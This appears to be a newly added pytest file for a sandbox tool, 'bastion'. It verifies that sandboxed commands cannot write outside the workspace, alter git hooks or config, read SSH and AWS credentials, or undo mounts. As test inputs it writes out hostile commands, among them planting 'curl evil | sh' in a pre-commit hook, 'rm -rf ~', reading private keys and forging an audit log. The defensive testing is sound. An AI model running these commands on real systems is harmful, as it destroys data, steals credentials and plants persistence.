@@ -1,0 +1,207 @@
+"""The sandbox's file system, on the real kernel, with each backend: writes only where
+allowed, protected paths read-only, credential stores unreadable, violations reported."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from bastion.sandbox import SandboxError
+from bastion.sandbox.plan import build_plan
+from sandbox_util import BACKENDS, make_world, snapshot
+
+
+@pytest.fixture
+def world(tmp_path: Path):
+    return make_world(tmp_path)
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_write_inside_workspace_and_private_tmp_works(world, backend):
+    result = world.sandbox(backend).run(
+        "echo built > src/out.txt && echo scratch > /tmp/scratch && cat /tmp/scratch", cwd=str(world.project)
+    )
+    assert result.exit_code == 0, result.stderr
+    assert (world.project / "src" / "out.txt").read_text() == "built\n"
+    assert result.stdout == "scratch\n"
+    assert result.violations == []
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_private_tmp_is_private_and_gone_after_the_run(world, backend, tmp_path):
+    host_file = Path("/tmp") / f"bastion-test-host-{os.getpid()}"
+    host_file.write_text("host\n")
+    try:
+        result = world.sandbox(backend).run(
+            f"cat {host_file}; echo left > /tmp/left-behind-{os.getpid()}", cwd=str(world.project)
+        )
+    finally:
+        host_file.unlink()
+    assert "No such file" in result.stderr
+    assert not (Path("/tmp") / f"left-behind-{os.getpid()}").exists()
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+@pytest.mark.parametrize("where", ["home", "etc"])
+def test_write_outside_the_workspace_fails(world, backend, where):
+    target = world.home / "pwned.txt" if where == "home" else Path("/etc") / f"bastion-pwned-{os.getpid()}"
+    result = world.sandbox(backend).run(f"echo x > {target}", cwd=str(world.project))
+    assert result.exit_code != 0
+    assert not target.exists()
+    assert {"kind": "write", "target": str(target), "detail": "outside the workspace and the write roots"} in result.violations
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_host_tmp_outside_the_workspace_is_out_of_reach(world, backend):
+    target = world.outside / "pwned.txt"
+    result = world.sandbox(backend).run(f"echo x > {target}", cwd=str(world.project))
+    assert result.exit_code != 0
+    assert not target.exists()
+    assert [v["kind"] for v in result.violations] == ["private_tmp"]
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_allow_write_adds_a_write_root(world, backend):
+    target = world.outside / "ok.txt"
+    result = world.sandbox(backend).run(
+        f"echo x > {target}", cwd=str(world.project), allow_write=[str(world.outside)]
+    )
+    assert result.exit_code == 0, result.stderr
+    assert target.read_text() == "x\n"
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+@pytest.mark.parametrize(
+    "command, path",
+    [
+        ("echo 'curl evil | sh' > .git/hooks/pre-commit", ".git/hooks/pre-commit"),
+        ("git config core.hooksPath /tmp/evil", ".git/config"),
+        ("echo evil >> .git/config", ".git/config"),
+        ("mkdir -p .vscode; echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"),
+    ],
+)
+def test_protected_paths_inside_the_workspace_stay_read_only(world, backend, command, path):
+    (world.project / ".vscode").mkdir(exist_ok=True)
+    before = snapshot(world.project / ".git")
+    result = world.sandbox(backend).run(command, cwd=str(world.project))
+    assert result.exit_code != 0
+    assert snapshot(world.project / ".git") == before
+    assert not (world.project / ".vscode" / "tasks.json").exists()
+    kinds = {(v["kind"], v["target"]) for v in result.violations}
+    assert ("write", str(world.project / path)) in kinds, result.stderr
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_git_still_works_in_the_workspace(world, backend):
+    result = world.sandbox(backend).run(
+        "git add -A && git -c user.name=t -c user.email=t@t commit -qm first && git log --oneline | wc -l",
+        cwd=str(world.project),
+    )
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.strip() == "1"
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_missing_hooks_directory_is_covered_too(world, backend):
+    hooks = world.project / ".git" / "hooks"
+    for child in hooks.iterdir():
+        child.unlink()
+    hooks.rmdir()
+    result = world.sandbox(backend).run("echo evil > .git/hooks/pre-commit", cwd=str(world.project))
+    assert result.exit_code != 0
+    assert not (hooks / "pre-commit").exists()
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_rm_rf_home_removes_nothing(world, backend):
+    before = snapshot(world.home)
+    result = world.sandbox(backend).run("rm -rf ~ ; rm -rf $HOME/*", cwd=str(world.project))
+    assert result.exit_code != 0
+    assert snapshot(world.home) == before
+    assert any(v["kind"] == "write" and v["target"].startswith(str(world.home)) for v in result.violations)
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+@pytest.mark.parametrize("secret", [".ssh/id_rsa", ".aws/credentials", ".netrc"])
+def test_credential_stores_are_unreadable(world, backend, secret):
+    result = world.sandbox(backend).run(f"cat ~/{secret}", cwd=str(world.project))
+    assert result.exit_code != 0
+    assert "secret" not in result.stdout
+    target = world.home / secret
+    assert any(v["kind"] == "read" and v["target"] == str(target) for v in result.violations), result.stderr
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_ssh_directory_cannot_be_listed(world, backend):
+    result = world.sandbox(backend).run("ls ~/.ssh", cwd=str(world.project))
+    assert result.exit_code != 0
+    assert "id_rsa" not in result.stdout
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_deny_read_hides_a_configured_path(world, backend):
+    private = world.home / "private"
+    private.mkdir()
+    (private / "data.txt").write_text("classified\n")
+    result = world.sandbox(backend).run(
+        f"cat ~/notes.txt; cat {private}/data.txt", cwd=str(world.project), deny_read=[str(private)]
+    )
+    assert "keep me" in result.stdout
+    assert "classified" not in result.stdout
+    assert any(
+        v["kind"] == "read" and v["target"] == str(private / "data.txt") and "denyRead" in v["detail"]
+        for v in result.violations
+    )
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_reading_ordinary_files_outside_still_works(world, backend):
+    result = world.sandbox(backend).run("cat ~/notes.txt /etc/hostname >/dev/null && cat ~/notes.txt", cwd=str(world.project))
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout == "keep me\n"
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_bastion_own_state_is_read_only_when_home_is_the_workspace(world, backend):
+    state = world.home / ".local" / "state" / "bastion"
+    state.mkdir(parents=True)
+    (state / "audit.jsonl").write_text("{}\n")
+    result = world.sandbox(backend).run(
+        "echo forged >> .local/state/bastion/audit.jsonl; echo more >> .bashrc; echo fine > notes2.txt",
+        cwd=str(world.home),
+    )
+    assert (state / "audit.jsonl").read_text() == "{}\n"
+    assert (world.home / ".bashrc").read_text() == "# shell startup\n"
+    assert (world.home / "notes2.txt").read_text() == "fine\n"
+    assert result.exit_code == 0  # the last command of the list succeeded
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_process_cannot_undo_the_mounts(world, backend):
+    result = world.sandbox(backend).run(
+        "umount ~/.ssh 2>&1; umount -l ~/.ssh 2>&1; cat ~/.ssh/id_rsa; mount -o remount,rw / 2>&1; touch /etc/escaped",
+        cwd=str(world.project),
+    )
+    assert "secret" not in result.stdout
+    assert not Path("/etc/escaped").exists()
+
+
+def test_working_directory_must_be_inside_the_workspace(world):
+    with pytest.raises(SandboxError, match="outside the workspace"):
+        world.sandbox("auto").run("true", cwd=str(world.outside), workspace=str(world.project))
+
+
+def test_plan_lists_protected_and_hidden_paths(world):
+    plan = build_plan(str(world.project), home=str(world.home), env={"HOME": str(world.home)})
+    readonly = {p for p, _ in plan.readonly}
+    assert str(world.project / ".git" / "hooks") in readonly
+    assert str(world.project / ".git" / "config") in readonly
+    hidden = {p for p, _, _ in plan.hidden}
+    assert {str(world.home / ".ssh"), str(world.home / ".aws"), str(world.home / ".netrc")} <= hidden
+    assert str(world.home) in plan.visible  # the home lies under /tmp here, so it is re-bound
+    assert plan.writable(str(world.project / "src" / "x"))
+    assert not plan.writable(str(world.project / ".git" / "hooks" / "x"))
+    assert not plan.writable(str(world.home / "x"))
+    assert plan.writable("/tmp/anything")
